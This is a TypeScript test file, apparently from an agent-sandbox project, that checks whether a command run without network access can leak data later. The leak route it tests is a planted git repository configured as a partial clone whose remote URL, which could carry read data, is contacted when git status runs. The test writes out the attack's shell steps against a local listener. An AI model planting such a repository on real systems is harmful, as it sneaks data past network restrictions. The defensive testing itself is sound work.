import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import {
  attackAgent,
  countConnections,
  endAgents,
  sandboxUsers,
} from '../testing/sandbox/use-sandbox.ts';

// A command without network access leaves a repository with a missing object. If the repository is a partial
// clone, git requests the object from its remote. This happens even for `git status` in the outer folder. The
// address of the remote can contain data that the command has read.

endAgents();

const commit =
  "printf 'tree %040d\\nauthor a <a> 1 +0000\\ncommitter a <a> 1 +0000\\n\\nx\\n' 7 | git hash-object -t commit -w --stdin --literally";
/** Git creates these settings for `git clone --filter`. */
const settings = {
  both: '[extensions]\\n\\tpartialclone = origin\\n[remote "origin"]\\n\\tpromisor = true\\n',
  extension: '[extensions]\\n\\tpartialclone = origin\\n[remote "origin"]\\n',
  remote: '[remote "origin"]\\n\\tpromisor = true\\n',
  filter: '[remote "origin"]\\n\\tpartialclonefilter = blob:none\\n',
};
const attack = (port: number, config: string) =>
  [
    'git init -q sub && cd sub',
    `id=$(${commit}) && git update-ref HEAD $id`,
    `printf '[core]\\n\\trepositoryformatversion = 1\\n${config}\\turl = http://127.0.0.1:${port}/secret\\n' > .git/config`,
    'cd .. && git update-index --add --cacheinfo 160000,$id,sub',
  ].join(' && ');

async function gitStatus(cwd: string): Promise<void> {
  const trusting = ['-c', 'safe.directory=*', 'status', '--short'];
  await once(spawn('git', trusting, { cwd, stdio: 'ignore' }), 'close');
}

const own = 'ref: refs/heads/main\n';
const repository = { '.git/HEAD': own, '.git/config': '', '.git/objects/x': '', '.git/refs/x': '' };

describe.for(sandboxUsers)('as %s', (user) => {
  test.for(Object.entries(settings))(
    '18.91, 18.1119: attack: git status sends a secret to the remote of a partial clone (%s)',
    async ([, config], context) => {
      const agent = await attackAgent(user, context);
      agent.write(agent.workspace, repository);
      const server = await countConnections();
      await agent.run(attack(server.port, config));
      expect(existsSync(join(agent.workspace, 'sub'))).toBe(true);
      await gitStatus(agent.workspace);
      expect(server.count()).toBe(0);
    },
  );
});
